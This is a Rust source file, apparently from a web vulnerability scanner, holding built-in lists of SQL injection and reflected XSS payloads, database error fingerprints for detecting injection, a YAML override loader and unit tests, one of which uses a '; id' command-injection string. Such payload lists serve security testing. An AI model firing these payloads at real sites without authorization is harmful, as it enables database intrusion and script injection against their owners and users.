// src/payloads.rs
//! Attack strings and database error signatures.
//!
//! Order matters: the scanner stops at the first payload that triggers a
//! detection, so earlier entries win.

use crate::error::ProbeError;
use serde::Deserialize;
use std::path::Path;
use std::sync::OnceLock;

/// SQL injection payloads, appended to the parameter's original value
pub const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "'-- ",
    "' OR 'a'='a",
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' /*",
    "admin' --",
    "admin' #",
    "' UNION SELECT NULL--",
    "1' OR '1'='1",
    "1' OR '1'='1'--",
    "1' OR '1'='1'/*",
    "' OR 1=1--",
    "' OR 1=1#",
    "' OR 1=1/*",
    "') OR '1'='1--",
    "') OR ('1'='1--",
    "1' AND '1'='1",
    "1' AND '1'='2",
    "1' AND 1=1",
    "1' AND 1=2",
    "' AND 1=1--",
    "' AND 1=2--",
];

/// Reflected XSS payloads, substituted for the parameter's value
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "'\"><script>alert('XSS')</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=\"x\" onerror=\"alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<body style=\"background:url('javascript:alert(1)')\">",
    "<div onmouseover=alert('XSS')>test</div>",
    "<marquee onstart=alert('XSS')>test</marquee>",
];

/// Database error fingerprints (MySQL, PostgreSQL, Oracle, SQL Server, SQLite, generic)
pub const SQL_ERROR_SIGNATURES: &[&str] = &[
    "mysql_fetch",
    "mysql_num_rows",
    "mysql_query",
    "mysql_connect",
    "mysql_error",
    "Warning: mysql",
    "PostgreSQL query failed",
    "PostgreSQL ERROR",
    "Warning: pg_",
    "valid MySQL result",
    "MySqlClient",
    "SQL syntax",
    "SQLException",
    "SQLiteException",
    "SQLite3::",
    "ORA-00921",
    "ORA-00933",
    "Oracle error",
    "Microsoft OLE DB Provider",
    "ODBC SQL Server Driver",
    "SQLServer JDBC Driver",
    "Unclosed quotation mark",
    "quoted string not properly terminated",
    "syntax error",
    "mysqli",
    "you have an error in your sql syntax",
    "mariadb",
    "fatal error",
    "uncaught mysqli_sql_exception",
];

/// Immutable payload and signature lists shared by every probe worker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadCatalog {
    pub sqli_payloads: Vec<String>,
    pub xss_payloads: Vec<String>,
    pub sql_error_signatures: Vec<String>,
}

/// On-disk form; every key is optional and falls back to the built-in list.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct PayloadFile {
    sqli_payloads: Option<Vec<String>>,
    xss_payloads: Option<Vec<String>>,
    sql_error_signatures: Option<Vec<String>>,
}

fn owned(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

impl PayloadCatalog {
    /// Process-wide built-in catalog, built once on first use.
    pub fn builtin() -> &'static PayloadCatalog {
        static BUILTIN: OnceLock<PayloadCatalog> = OnceLock::new();
        BUILTIN.get_or_init(|| PayloadCatalog {
            sqli_payloads: owned(SQLI_PAYLOADS),
            xss_payloads: owned(XSS_PAYLOADS),
            sql_error_signatures: owned(SQL_ERROR_SIGNATURES),
        })
    }

    /// Parse a YAML catalog override.
    pub fn from_yaml_str(content: &str) -> Result<Self, ProbeError> {
        let file: PayloadFile = if content.trim().is_empty() {
            PayloadFile::default()
        } else {
            serde_yaml::from_str(content)?
        };

        let builtin = Self::builtin();
        let catalog = PayloadCatalog {
            sqli_payloads: file.sqli_payloads.unwrap_or_else(|| builtin.sqli_payloads.clone()),
            xss_payloads: file.xss_payloads.unwrap_or_else(|| builtin.xss_payloads.clone()),
            sql_error_signatures: file
                .sql_error_signatures
                .unwrap_or_else(|| builtin.sql_error_signatures.clone()),
        };
        catalog.validate()?;

        Ok(catalog)
    }

    pub fn from_yaml_file(path: &Path) -> Result<Self, ProbeError> {
        let content = std::fs::read_to_string(path)?;
        Self::from_yaml_str(&content)
    }

    fn validate(&self) -> Result<(), ProbeError> {
        let lists = [
            ("sqli_payloads", &self.sqli_payloads),
            ("xss_payloads", &self.xss_payloads),
            ("sql_error_signatures", &self.sql_error_signatures),
        ];

        for (name, list) in lists {
            if list.is_empty() {
                return Err(ProbeError::Config(format!("{} must not be empty", name)));
            }
            if list.iter().any(|entry| entry.is_empty()) {
                return Err(ProbeError::Config(format!("{} contains an empty entry", name)));
            }
        }

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_catalog_order() {
        let catalog = PayloadCatalog::builtin();
        assert_eq!(catalog.sqli_payloads.len(), 23);
        assert_eq!(catalog.xss_payloads.len(), 15);
        assert_eq!(catalog.sqli_payloads[0], "'");
        assert_eq!(catalog.xss_payloads[0], "<script>alert('XSS')</script>");
    }

    #[test]
    fn test_builtin_is_shared() {
        let a = PayloadCatalog::builtin() as *const PayloadCatalog;
        let b = PayloadCatalog::builtin() as *const PayloadCatalog;
        assert_eq!(a, b);
    }

    #[test]
    fn test_signatures_have_no_duplicates() {
        let mut seen = std::collections::HashSet::new();
        for signature in SQL_ERROR_SIGNATURES {
            assert!(seen.insert(*signature), "duplicate signature {}", signature);
        }
    }

    #[test]
    fn test_partial_override_keeps_builtin_lists() {
        let yaml = "xss_payloads:\n  - \"<b>probe</b>\"\n";
        let catalog = PayloadCatalog::from_yaml_str(yaml).unwrap();

        assert_eq!(catalog.xss_payloads, vec!["<b>probe</b>".to_string()]);
        assert_eq!(catalog.sqli_payloads, PayloadCatalog::builtin().sqli_payloads);
        assert_eq!(
            catalog.sql_error_signatures,
            PayloadCatalog::builtin().sql_error_signatures
        );
    }

    #[test]
    fn test_empty_list_rejected() {
        let err = PayloadCatalog::from_yaml_str("sqli_payloads: []\n").unwrap_err();
        assert!(matches!(err, ProbeError::Config(_)));
    }

    #[test]
    fn test_unknown_key_rejected() {
        let err = PayloadCatalog::from_yaml_str("cmdi_payloads: [\"; id\"]\n").unwrap_err();
        assert!(matches!(err, ProbeError::Parse(_)));
    }

    #[test]
    fn test_blank_file_is_builtin() {
        let catalog = PayloadCatalog::from_yaml_str("  \n").unwrap();
        assert_eq!(&catalog, PayloadCatalog::builtin());
    }
}
